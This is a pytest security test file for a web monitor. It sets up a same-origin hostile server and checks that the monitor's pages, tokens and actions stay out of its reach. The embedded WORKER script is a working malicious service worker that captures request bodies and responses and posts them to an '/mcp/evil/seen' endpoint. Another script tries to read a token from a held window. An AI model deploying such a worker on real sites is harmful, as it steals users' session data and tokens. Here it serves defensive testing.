"""A hostile server that a browser finds under the monitor's name gets no page, no token, and no part in an action."""

from __future__ import annotations

import json
import shutil
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from benchmarks.monitor_parts.serving import PASSWORD, Monitor, monitor
from tests.e2e.support.waiting import until
from tests.monitor_data.site import make_site
from tests.security.chromium import Browser, browsing

pytestmark = pytest.mark.skipif(
    not (shutil.which("chromium") and shutil.which("chromedriver")), reason="there is no Chromium here"
)

# All that a service worker sees: what the browser loads for it, what it fetches itself, what a form sends.
WORKER = """
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil((async () => {
  await registration.navigationPreload.enable();
  await clients.claim();
})()));
addEventListener("fetch", (event) => {
  if (!new URL(event.request.url).pathname.startsWith("/monitor")) return;
  event.respondWith((async () => {
    const seen = [event.request.url, await event.request.clone().text()];
    const loaded = await event.preloadResponse;
    if (loaded) seen.push(await loaded.clone().text());
    const fetched = await fetch(event.request.clone());
    if (fetched.type === "basic") seen.push(await fetched.clone().text());
    await fetch("/mcp/evil/seen", {method: "POST", body: JSON.stringify(seen)});
    return loaded || fetched;
  })());
});
"""
INSTALL = """
await navigator.serviceWorker.register("/mcp/evil/worker.js", {scope: "/"});
const { active } = await navigator.serviceWorker.ready;
while (active.state !== "activated") await new Promise(done => setTimeout(done, 50));
"""
HOLD = """
const [path] = given;
const held = open("about:blank", "held");
held.opener = null;
held.location = path;
for (let turn = 0; turn < 100 && !held.closed; turn += 1) {
  try {
    if (held.document.querySelector("[data-token]")) return "read";
  } catch (error) {
    if (error.name !== "SecurityError") throw error;  // between the two pages it is of no origin that may be read
  }
  await new Promise(done => setTimeout(done, 100));
}
return held.closed ? "severed" : "blank";
"""


@dataclass
class Balancer:
    """One name, two servers: the monitor, and below /mcp/evil a hostile one that keeps what it has ``seen``."""

    port: int
    seen: list[str] = field(default_factory=list)

    @property
    def signed_in(self) -> str:
        return f"http://admin:{PASSWORD}@127.0.0.1:{self.port}/monitor"

    @property
    def monitor(self) -> str:
        return f"http://127.0.0.1:{self.port}/monitor"

    @property
    def evil(self) -> str:
        return f"http://127.0.0.1:{self.port}/mcp/evil/"


def handler(behind: Monitor, seen: list[str]) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.do_POST()

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            if self.path.startswith("/mcp/evil/"):
                self.evil(body)
                return
            connection = HTTPConnection("127.0.0.1", behind.port, timeout=30)
            connection.request(self.command, self.path, body or None, dict(self.headers))
            answer = connection.getresponse()
            self.tell(answer.status, dict(answer.getheaders()), answer.read())

        def evil(self, body: bytes) -> None:
            if body:
                seen.extend(json.loads(body))
            script = self.path.endswith(".js")
            headers = {"Cross-Origin-Opener-Policy": "same-origin", "Service-Worker-Allowed": "/"}
            headers["Content-Type"] = "text/javascript" if script else "text/html"
            self.tell(200, headers, WORKER.encode() if script else b"<!doctype html><title>evil</title>")

        def tell(self, status: int, headers: dict[str, str], body: bytes) -> None:
            self.send_response(status)
            for name, value in {**headers, "Content-Length": str(len(body)), "Connection": "close"}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *arguments: Any) -> None:
            pass

    return Handler


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = make_site(tmp_path, servers=4, days=1, lines=5, calls=5)
    (folder / "requests").mkdir()
    return folder


@pytest.fixture
def balancer(folder: Path) -> Iterator[Balancer]:
    seen: list[str] = []
    with monitor(folder, role="operate") as behind:
        server = ThreadingHTTPServer(("127.0.0.1", 0), handler(behind, seen))
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield Balancer(server.server_port, seen)
        server.shutdown()
        server.server_close()


@pytest.fixture
def window() -> Iterator[Browser]:
    with browsing() as browser:
        yield browser


def test_a_window_that_another_page_holds_is_let_go(balancer: Balancer, window: Browser) -> None:
    window.open(f"{balancer.signed_in}/")
    window.open(balancer.evil)
    assert window.run(HOLD, "/monitor/") == "severed"


def test_a_service_worker_of_the_whole_site_sees_nothing_and_is_removed(
    balancer: Balancer, window: Browser, folder: Path
) -> None:
    window.open(f"{balancer.signed_in}/")
    window.open(balancer.evil)
    assert window.run(INSTALL) is None
    window.open(f"{balancer.monitor}/act/stop?server=postgres")
    until(lambda: "Stop postgres?" in str(window.run("return document.body.innerText")), "the page without the worker")
    assert balancer.seen
    assert window.run("return (await navigator.serviceWorker.getRegistrations()).length") == 0
    window.click("main form button")
    window.arrives("/requests/")
    assert len(list((folder / "requests").iterdir())) == 1
    assert not [text for text in balancer.seen if "token" in text or "MCP fleet" in text]


def test_a_page_that_is_open_leaves_as_soon_as_a_service_worker_comes(balancer: Balancer, window: Browser) -> None:
    window.open(f"{balancer.signed_in}/")
    window.run("window.stays = true")
    with window.another_tab():
        window.open(balancer.evil)
        assert window.run(INSTALL) is None
    until(lambda: window.run("return window.stays ?? null") is None, "the page has left")
    assert window.run("return (await navigator.serviceWorker.getRegistrations()).length") == 0
